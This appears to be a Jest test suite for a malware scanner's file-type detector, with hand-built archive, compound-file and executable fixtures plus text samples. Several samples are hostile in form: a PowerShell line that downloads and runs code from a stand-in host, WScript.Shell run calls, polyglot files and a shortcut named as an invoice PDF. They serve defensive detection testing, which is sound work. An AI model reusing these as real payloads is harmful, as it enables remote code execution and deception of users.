import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { type FileType, fileTypes } from '../../../../../src/kinds/scan/analysis/stage.ts';
import { fileOf, utf16 } from '../file-of.ts';

const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');
const typeOf = async (name: string, content: string | Uint8Array) => (await fileOf(name, content)).type;

/** A local header and a directory for each name, stored and empty. */
function zipOf(names: readonly string[], content = ''): Buffer {
  const data = Buffer.from(content);
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const [index, name] of names.entries()) {
    const body = index === 0 ? data : Buffer.alloc(0);
    const local = Buffer.alloc(30);
    local.write('PK\x03\x04', 'latin1');
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(body.length, 22);
    local.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.write('PK\x01\x02', 'latin1');
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(at, 42);
    locals.push(local, Buffer.from(name), body);
    central.push(entry, Buffer.from(name));
    at += 30 + name.length + body.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A compound file of one directory sector. */
function oleOf(streams: readonly string[], rootClass = ''): Buffer {
  const file = Buffer.alloc(1536, 0xff);
  hex('d0cf11e0a1b11ae1').copy(file);
  file.writeUInt16LE(9, 30);
  file.writeUInt32LE(0, 48);
  file.writeUInt32LE(1, 76);
  for (const [index, name] of ['Root Entry', ...streams].slice(0, 4).entries()) {
    const at = 512 + 128 * index;
    file.fill(0, at, at + 128);
    file.write(name, at, 'utf16le');
    file.writeUInt16LE(2 * name.length + 2, at + 64);
    file[at + 66] = index === 0 ? 5 : 2;
    if (index === 0) hex(rootClass).copy(file, at + 80);
  }
  return file;
}

/** A header as tar had it before POSIX: nothing but a checksum tells it. */
function oldTar(): Buffer {
  const header = Buffer.alloc(1024);
  header.write('readme.txt');
  header.write('0000644\0', 100);
  header.write('00000000005\0', 124);
  header.write('        ', 148);
  const sum = header.subarray(0, 512).reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return header;
}

const disc = Buffer.alloc(0x9000);
disc.write('\x01CD001', 0x8000, 'latin1');
const program = Buffer.alloc(256);
program.write('MZ');
program.writeUInt32LE(128, 60);
program.write('PE\0\0', 128);

test.each<[FileType, string, string | Uint8Array]>([
  ['empty', 'a', ''],
  ['zip', 'a', zipOf(['a.txt'])],
  ['zip', 'archive.docx', zipOf(['a.txt'])],
  ['ooxml', 'a.zip', zipOf(['word/document.xml', '[Content_Types].xml'])],
  ['ooxml', 'a.zip', zipOf(['[CONTENT_TYPES].xml', 'x.xml']).subarray(0, 70)],
  ['odf', 'a', zipOf(['mimetype', 'content.xml'], 'application/vnd.oasis.opendocument.text')],
  ['epub', 'a', zipOf(['mimetype'], 'application/epub+zip')],
  ['jar', 'a', zipOf(['META-INF/MANIFEST.MF', 'A.class'])],
  ['apk', 'a', zipOf(['META-INF/MANIFEST.MF', 'AndroidManifest.xml'])],
  // An archive that merely holds a document, stored: its headers are in it, its directory is not this one's.
  ['zip', 'a', zipOf(['a.docx'], zipOf(['[Content_Types].xml']).toString('latin1'))],
  ['zip', 'a.zip', Buffer.concat([Buffer.from('#!/bin/sh\nexit 0\n\n'), zipOf(['a.txt'])])],
  ['hta', 'a.hta', Buffer.concat([Buffer.from('<script>1</script>\n'), zipOf(['a.txt'])])],
  ['tar', 'a', oldTar()],
  ['iso', 'a', disc],
  ['7z', 'a', hex('377abcaf271c0004')],
  ['rar', 'a', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')],
  ['lzh', 'a', Buffer.from('\x20\x00-lh5-\0\0\0', 'latin1')],
  ['lzip', 'a', Buffer.from('LZIP\x01\x0c', 'latin1')],
  ['z', 'a', hex('1f9d90 0102030405')],
  ['ole', 'a', oleOf(['Contents'])],
  ['ole', 'a.xlsx', oleOf(['EncryptionInfo', 'EncryptedPackage'])],
  ['doc', 'a', oleOf(['1Table', 'WordDocument'])],
  ['xls', 'a', oleOf(['Workbook'])],
  ['ppt', 'a', oleOf(['Current User', 'PowerPoint Document'])],
  ['msg', 'a', oleOf(['WordDocument', '__properties_version1.0'])],
  ['msi', 'a', oleOf(['\u4840\u3f3f'], '84100c0000000000c000000000000046')],
  ['onenote', 'a', hex('e4525c7b8cd8a74daeb15378d02996d3 00')],
  ['rtf', 'a.doc', '  {\\rtvpn whatever}'],
  ['pdf', 'a', '%PDF-1.7\n'],
  ['pdf', 'a', 'junk\n\n%PDF-1.4\n1 0 obj\n<<>>\nendobj\n'],
  ['pe', 'a', program],
  ['elf', 'a', hex('7f454c46 020101')],
  ['macho', 'a', hex('cafebabe 00000002 01000007')],
  ['class', 'a', hex('cafebabe 00000041 0010')],
  ['lnk', 'invoice.pdf', hex('4c000000 0114020000000000c000000000000046 00')],
  ['gif', 'a', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')],
  // All of it is text, so it is none; a script host reads it.
  ['js', 'a.js', 'GIF89a=1;var s=new ActiveXObject("WScript.Shell");'],
])('%s: %s', async (expected, name, content) => {
  expect(await typeOf(name, content)).toBe(expected);
});

test.each<[FileType, string, string]>([
  ['js', 'a', 'var s = new ActiveXObject("WScript.Shell"); s.Run("x");'],
  ['js', 'a.js', 'hello'],
  ['js', 'a.jse', '#@~^CAAAAA==...^#~@'],
  ['vbs', 'a', 'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "x"\r\n'],
  ['powershell', 'a', '$c = New-Object Net.WebClient\nIEX $c.DownloadString("http://a.invalid")\n'],
  ['batch', 'a', '@echo off\r\nset A=1\r\ngoto end\r\n'],
  ['batch', 'a.bat', '<!-- : batch\r\n@echo off\r\n-->\r\n<html></html>'],
  ['shell', 'a', '#!/usr/bin/env bash\necho hello\n'],
  ['python', 'a', 'import os\n\ndef main() -> None:\n    print(1)\n'],
  ['php', 'a', '<?php echo 1;'],
  ['html', 'a', '<!-- saved -->\n<!DOCTYPE html>\n<p>Hi'],
  ['html', 'a', '<script>alert(1)</script>'],
  ['hta', 'a.html', '<html><HTA:APPLICATION id="x"/></html>'],
  [
    'svg',
    'a',
    '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [ <!ENTITY a "b"> ]>\n<svg/>',
  ],
  ['svg', 'a', '<x:svg xmlns:x="http://www.w3.org/2000/svg"/>'],
  ['xml', 'a', '<?xml version="1.0"?><plist><dict/></plist>'],
  ['wsf', 'a', '<job id="a"><script language="JScript">1</script></job>'],
  ['sct', 'a', '<?XML version="1.0"?><scriptlet><registration progid="a"/></scriptlet>'],
  ['url', 'a', '[InternetShortcut]\r\nURL=file://a.invalid/x\r\n'],
  ['iqy', 'a', 'WEB\r\n1\r\nhttp://a.invalid/\r\n'],
  ['eml', 'a', 'Received: from a\r\n by b\r\nFrom: a@a.invalid\r\nSubject: x\r\n\r\nbody'],
  ['csv', 'a.csv', 'whatever'],
  ['csv', 'a', 'name,value,x\n"a, b",1,2\nb,2,3\n'],
  ['text', 'a', 'Dear all, please set the table; then, if you can, call me. Function follows form.\n'],
  ['text', 'a.c', '#include <stdio.h>\nint main(void) { printf("hi"); return 0; }\n'],
  ['text', 'a.json', '{"var x = 1": "function () {}"}'],
  ['text', 'a', 'HTTP/1.1 200 OK\r\nServer: a\r\nContent-Type: text/html\r\n\r\n'],
])('%s, of text: %s', async (expected, name, content) => {
  expect(await typeOf(name, content)).toBe(expected);
  expect(await typeOf(name, utf16(content))).toBe(expected);
});

test('whatever comes, it is some type', async () => {
  const starts = fc.constantFrom(
    '',
    'PK\x03\x04',
    'MZ',
    '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    'RIFF',
    '<svg',
    'BM',
    'ID3',
  );
  await fc.assert(
    fc.asyncProperty(starts, fc.uint8Array({ maxLength: 2000 }), async (start, rest) => {
      const content = Buffer.concat([Buffer.from(start, 'latin1'), rest]);
      expect(fileTypes).toContain(await typeOf('a', content));
    }),
  );
});
